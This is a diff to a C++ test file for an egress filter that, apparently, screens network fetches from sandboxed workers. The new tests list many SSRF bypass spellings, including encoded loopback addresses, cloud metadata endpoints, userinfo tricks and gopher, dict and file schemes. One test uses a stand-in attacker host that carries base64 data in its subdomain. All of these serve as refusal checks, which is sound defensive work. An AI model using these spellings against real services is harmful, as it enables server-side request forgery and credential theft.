@@ -11,6 +11,7 @@
 
 #include <deque>
 #include <functional>
+#include <mutex>
 #include <thread>
 
 namespace mayfly::supervisor {
@@ -60,11 +61,16 @@ class Connection {
 
 class EgressTest : public testing::Test {
  protected:
-  void SetUp() override {
+  void SetUp() override { open({true, {"loopback"}, {}}); }
+  // A new pipe for a worker with this policy.
+  void open(egress::PolicyText policy, std::vector<egress::SecretText> secrets = {}, std::string tenant = "tenant") {
     auto [near, far] = rpc::makePipe();
     pipe_ = std::move(near);
     pipe_.attach(inbox_, 0);
-    egress_.serve(std::move(far));
+    EgressAccess access{"api:agent", std::move(tenant), true, {}, {}};
+    access.layers = {std::make_shared<egress::Policy>(*egress::parsePolicy(policy, "the policy"))};
+    access.secrets = {std::make_shared<egress::Secrets>(*egress::parseSecrets(std::move(secrets)))};
+    egress_.serve(std::move(far), std::move(access));
   }
   void TearDown() override {
     pipe_.close({ErrorCode::unavailable, ""});
@@ -156,7 +162,44 @@ class EgressTest : public testing::Test {
   };
 
   boost::asio::io_context context_{1};
-  Egress egress_{context_, {}};
+  // What the next lookups answer, the last for good; empty: the name is not known.
+  std::deque<Addresses> answers_;
+  std::vector<std::string> lookedUp_;
+  std::vector<std::string> log_;
+  std::mutex mutex_;
+  EgressOptions options() {
+    EgressOptions options;
+    options.listenPorts = {1234};
+    options.logAllowed = true;
+    options.namesKeptMs = 0;
+    options.lookup = [this](const std::string& name) -> Result<Addresses> {
+      std::lock_guard lock(mutex_);
+      lookedUp_.push_back(name);
+      if (answers_.empty()) return fail(ErrorCode::notFound, "Name or service not known");
+      Addresses answer = answers_.front();
+      if (answers_.size() > 1) answers_.pop_front();
+      return answer;
+    };
+    return options;
+  }
+  static Addresses addresses(std::vector<std::string_view> texts) {
+    Addresses parsed;
+    for (auto text : texts) parsed.push_back(*egress::parseAddress(text));
+    return parsed;
+  }
+  // Fetches and gets no response: what the head says.
+  std::string refusal(std::string_view url, std::string_view headers = "") {
+    fetch(fmt::format("GET\n{}{}", url, headers));
+    Message response = next();
+    EXPECT_EQ(response.type, MessageType::response);
+    EXPECT_EQ(response.target, 0u) << url;
+    return response.head;
+  }
+
+  Egress egress_{
+      context_, options(), [this](protocol::LogLevel level, const std::string& worker, std::string text) {
+        log_.push_back(fmt::format("{} {}: {}", level == protocol::LogLevel::warn ? "warn" : "debug", worker, text));
+      }};
   std::shared_ptr<Inbox> inbox_ = std::make_shared<Inbox>();
   rpc::PipeEnd pipe_;
   uint32_t lastCall_ = 0;
@@ -326,17 +369,17 @@ TEST_F(EgressTest, AnswersHeadWithoutABody) {
 
 TEST_F(EgressTest, AnswersStatusZeroAndTheReasonWhenItCannotSend) {
   const std::pair<std::string, std::string_view> cases[] = {
-      {"GET\nhttp://127.0.0.1:1/", "fetch from 127.0.0.1:1 failed: Failed to connect to 127.0.0.1 port 1"},
-      {"GET\nftp://127.0.0.1/", "fetch() to \"ftp:\" is not supported, only to http and https"},
-      {"GET\nfile:///etc/passwd", "fetch() to \"file:\" is not supported"},
+      {"GET\nhttp://127.0.0.1:2/", "fetch from http://127.0.0.1:2 failed: Failed to connect to 127.0.0.1 port 2"},
+      {"GET\nftp://127.0.0.1/", "\"ftp:\" is not supported, only http and https"},
+      {"GET\nfile:///etc/passwd", "\"file:\" is not supported, only http and https"},
       {"GET\nhttp://user:secret@127.0.0.1/", "the URL cannot be fetched"},
       {"GET\nnothing", "the URL cannot be fetched: Bad scheme"},
-      {"GET\nhttp://127.0.0.1:1/\nna me\nx", "\"na me\" is not a header name"},
-      {"GET\nhttp://127.0.0.1:1/\nx", "lacks a field"},
-      {"G T\nhttp://127.0.0.1:1/", "\"G T\" is not an HTTP method"},
-      {"CONNECT\nhttp://127.0.0.1:1/", "\"CONNECT\" is not allowed"},
-      {"GET\nhttp://127.0.0.1:1/\nupgrade\nwebsocket", "WebSocket"},
-      {"POST\nhttp://127.0.0.1:1/\ncontent-length\n-4", "is not a number"},
+      {"GET\nhttp://127.0.0.1:2/\nna me\nx", "\"na me\" is not a header name"},
+      {"GET\nhttp://127.0.0.1:2/\nx", "lacks a field"},
+      {"G T\nhttp://127.0.0.1:2/", "\"G T\" is not an HTTP method"},
+      {"CONNECT\nhttp://127.0.0.1:2/", "\"CONNECT\" is not allowed"},
+      {"GET\nhttp://127.0.0.1:2/\nupgrade\nwebsocket", "WebSocket"},
+      {"POST\nhttp://127.0.0.1:2/\ncontent-length\n-4", "is not a number"},
   };
   for (const auto& [head, text] : cases) {
     fetch(head);
@@ -406,6 +449,208 @@ TEST_F(EgressTest, EndsARequestWhoseAnswerIsWantedNoLonger) {
   server_.join();
   EXPECT_LT(std::chrono::steady_clock::now() - begin, 1s);
   EXPECT_TRUE(inbox_->messages.empty());
+}
+
+TEST_F(EgressTest, RefusesWhatThePolicyDoesNotAllowAndSaysWhy) {
+  open({});
+  EXPECT_EQ(
+      refusal("http://127.0.0.1:8080/x?y"),
+      "fetch to http://127.0.0.1:8080 was refused: 127.0.0.1 is a loopback address, which the policy does not allow "
+      "(rule: a loopback address)\nEgressDenied");
+  ASSERT_EQ(log_.size(), 1u);
+  EXPECT_EQ(log_[0],
+            "warn api:agent: egress denied: GET http://127.0.0.1:8080: 127.0.0.1 is a loopback address, which the "
+            "policy does "
+            "not allow (rule: a loopback address)");
+  EXPECT_EQ(egress_.counts().denied, 1u);
+  EXPECT_EQ(egress_.counts().allowed, 0u);
+  EXPECT_TRUE(lookedUp_.empty());
+}
+
+// What a compromised cell may send: URLs that no URL parser has seen before.
+TEST_F(EgressTest, RefusesThisMachineInEverySpelling) {
+  open({});
+  for (std::string_view url : {"http://127.0.0.1/",
+                               "http://localhost/",
+                               "http://LOCALHOST./",
+                               "http://a.localhost/",
+                               "http://[::1]/",
+                               "http://0.0.0.0/",
+                               "http://0/",
+                               "http://[::]/",
+                               "http://2130706433/",
+                               "http://0177.0.0.1/",
+                               "http://0x7f.1/",
+                               "http://0x7f000001/",
+                               "http://127.1/",
+                               "http://127.0.0.1./",
+                               "http://[::ffff:127.0.0.1]/",
+                               "http://[::ffff:7f00:1]/",
+                               "http://[::127.0.0.1]/",
+                               "http://[64:ff9b::7f00:1]/",
+                               "http://[2002:7f00:1::]/",
+                               "http://[::1%25lo]/",
+                               "http://[fe80::1%251]/",
+                               "http://169.254.169.254/latest/meta-data/",
+                               "http://0xa9fea9fe/",
+                               "http://2852039166/",
+                               "http://[fd00:ec2::254]/",
+                               "http://metadata.google.internal/",
+                               "http://10.0.0.1/",
+                               "http://192.168.1.1/",
+                               "http://172.16.0.1/",
+                               "http://100.64.0.1/",
+                               "http://198.18.0.1/",
+                               "http://224.0.0.1/",
+                               "http://255.255.255.255/",
+                               "http://168.63.129.16/",
+                               "http://public@127.0.0.1/",
+                               "http://8.8.8.8:80@127.0.0.1/",
+                               "http://127.0.0.1\\@8.8.8.8/",
+                               "http:\\\\127.0.0.1/",
+                               "http://127.0.0.1\t/",
+                               "http://127%2e0%2e0%2e1/",
+                               "http://127.0.0.1%00.example.com/",
+                               "http://127\xe3\x80\x82"
+                               "0.0.1/",
+                               "http://\xef\xbc\x91"
+                               "27.0.0.1/",
+                               "http:///127.0.0.1/",
+                               "http:127.0.0.1/",
+                               "//127.0.0.1/",
+                               "ftp://127.0.0.1/",
+                               "gopher://127.0.0.1/",
+                               "file:///etc/passwd",
+                               "unix:/run/x",
+                               "dict://127.0.0.1:11211/",
+                               "data:text/plain,x",
+                               "javascript:1"}) {
+    refusal(url);
+  }
+  EXPECT_TRUE(lookedUp_.empty());
+  EXPECT_EQ(egress_.counts().allowed, 0u);
+}
+
+TEST_F(EgressTest, JudgesANameByEveryAddressAndConnectsToNoOther) {
+  answers_ = {addresses({"8.8.8.8", "127.0.0.1"}), addresses({"10.0.0.1"}), addresses({"64:ff9b::7f00:1"}), {}};
+  open({});
+  EXPECT_NE(refusal("http://mixed.example/").find("mixed.example leads to a loopback address"), std::string::npos);
+  EXPECT_NE(refusal("http://private.example/").find("leads to a private address"), std::string::npos);
+  EXPECT_NE(refusal("http://nat64.example/").find("leads to a loopback address"), std::string::npos);
+  EXPECT_NE(refusal("http://none.example/").find("has no address"), std::string::npos);
+}
+
+TEST_F(EgressTest, ConnectsToTheAddressThatWasJudgedWhateverTheNameSaysLater) {
+  serve([&](Connection& connection) {
+    requestHead_ = connection.readHead();
+    connection.write("HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n");
+  });
+  answers_ = {addresses({"127.0.0.1"}), addresses({"10.0.0.1"})};
+  fetch(fmt::format("GET\nhttp://rebinding.example:{}/", port_));
+  EXPECT_EQ(next().target, 200u);
+  server_.join();
+  EXPECT_EQ(lookedUp_, std::vector<std::string>{"rebinding.example"});
+  EXPECT_NE(requestHead_.find(fmt::format("Host: rebinding.example:{}\r\n", port_)), std::string::npos) << requestHead_;
+  EXPECT_NE(refusal(fmt::format("http://rebinding.example:{}/", port_)).find("leads to a private address"),
+            std::string::npos);
+}
+
+TEST_F(EgressTest, TakesNoKeptConnectionToAnotherAddress) {
+  int requests = 0;
+  serve([&](Connection& connection) {
+    for (; !connection.readHead().empty(); ++requests) connection.write("HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n");
+  });
+  answers_ = {addresses({"127.0.0.1"}), addresses({"127.0.0.1"}), addresses({"127.0.0.2"})};
+  for (int i = 0; i < 2; ++i) {
+    fetch(fmt::format("GET\nhttp://moving.example:{}/", port_));
+    EXPECT_EQ(next().target, 200u);
+  }
+  EXPECT_EQ(requests, 2);
+  // The connection to 127.0.0.1 is still there, and the name has moved.
+  EXPECT_NE(refusal(fmt::format("http://moving.example:{}/", port_)).find("Failed to connect"), std::string::npos);
+  EXPECT_EQ(requests, 2);
+}
+
+TEST_F(EgressTest, TriesTheNextAddressWhenOneDoesNotAnswer) {
+  answer("HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n");
+  answers_ = {addresses({"127.0.0.3", "::1", "127.0.0.1"})};
+  fetch(fmt::format("GET\nhttp://several.example:{}/", port_));
+  EXPECT_EQ(next().target, 200u);
+  fetch("GET\nhttp://several.example:2/");
+  EXPECT_NE(next().head.find("Failed to connect"), std::string::npos);
+}
+
+TEST_F(EgressTest, SharesConnectionsWithinATenantAlone) {
+  int connections = 0;
+  serve(
+      [&](Connection& connection) {
+        ++connections;
+        while (!connection.readHead().empty()) connection.write("HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n");
+      },
+      2);
+  auto get = [this] {
+    fetch("GET\n" + url());
+    EXPECT_EQ(next().target, 200u);
+  };
+  get();
+  open({true, {"loopback"}, {}});
+  get();
+  EXPECT_EQ(connections, 1);
+  // The server serves one connection at a time: the first must go for the second to be accepted.
+  auto other = std::move(pipe_);
+  open({true, {"loopback"}, {}}, {}, "another tenant");
+  fetch("GET\n" + url());
+  EXPECT_EQ(next().target, 200u);
+  EXPECT_EQ(connections, 2);
+}
+
+TEST_F(EgressTest, AsksNobodyForANameThatNoRuleAllows) {
+  open({false, {"https://api.example.com"}, {}});
+  EXPECT_NE(refusal("https://c2VjcmV0.attacker.example/").find("not among what the policy allows"), std::string::npos);
+  EXPECT_NE(refusal("http://api.example.com/").find("not among what the policy allows"), std::string::npos);
+  EXPECT_TRUE(lookedUp_.empty());
+  EXPECT_EQ(refusal("https://api.example.com/"),
+            "fetch from https://api.example.com failed: the name cannot be resolved: Name or service not known\n"
+            "EgressDnsFailed");
+  EXPECT_EQ(lookedUp_, std::vector<std::string>{"api.example.com"});
+}
+
+TEST_F(EgressTest, ClosesTheServersOwnListenersToDynamicWorkers) {
+  for (std::string_view url : {"http://127.0.0.1:1234/", "http://localhost:1234/", "http://[::1]:1234/"}) {
+    EXPECT_NE(refusal(url).find("port 1234 of this machine is this server's own"), std::string::npos);
+  }
+}
+
+TEST_F(EgressTest, PutsSecretsIntoHeadersTowardsTheirHosts) {
+  answer("HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n");
+  std::string placeholder = egress::makePlaceholder();
+  open({true, {"loopback"}, {}}, {{"KEY", placeholder, "sk-live", {fmt::format("http://127.0.0.1:{}", port_)}}});
+  fetch(fmt::format("GET\n{}\nauthorization\nBearer {}", url(), placeholder));
+  EXPECT_EQ(next().target, 200u);
+  server_.join();
+  EXPECT_NE(requestHead_.find("authorization: Bearer sk-live\r\n"), std::string::npos) << requestHead_;
+  EXPECT_NE(refusal("http://127.0.0.1:4000/", "\nx-key\n" + placeholder)
+                .find(fmt::format("the secret \"KEY\" may go to http://127.0.0.1:{} only", port_)),
+            std::string::npos);
+  EXPECT_NE(refusal(url("/?key=" + placeholder)).find("secrets are put into headers only"), std::string::npos);
+  for (const std::string& line : log_) EXPECT_EQ(line.find("sk-live"), std::string::npos) << line;
+}
+
+TEST_F(EgressTest, IgnoresProxiesOfTheEnvironment) {
+  setenv("http_proxy", "http://127.0.0.1:3", 1);
+  setenv("all_proxy", "socks5h://127.0.0.1:3", 1);
+  answer("HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n");
+  fetch("GET\n" + url());
+  EXPECT_EQ(next().target, 200u);
+  unsetenv("http_proxy");
+  unsetenv("all_proxy");
+}
+
+TEST_F(EgressTest, LogsNoMoreDenialsThanAPersonCanRead) {
+  open({});
+  for (int i = 0; i < 200; ++i) refusal("http://127.0.0.1/");
+  EXPECT_LT(log_.size(), 80u);
+  EXPECT_EQ(egress_.counts().denied, 200u);
 }
 
 TEST_F(EgressTest, AnswersCallsWithAFailure) {
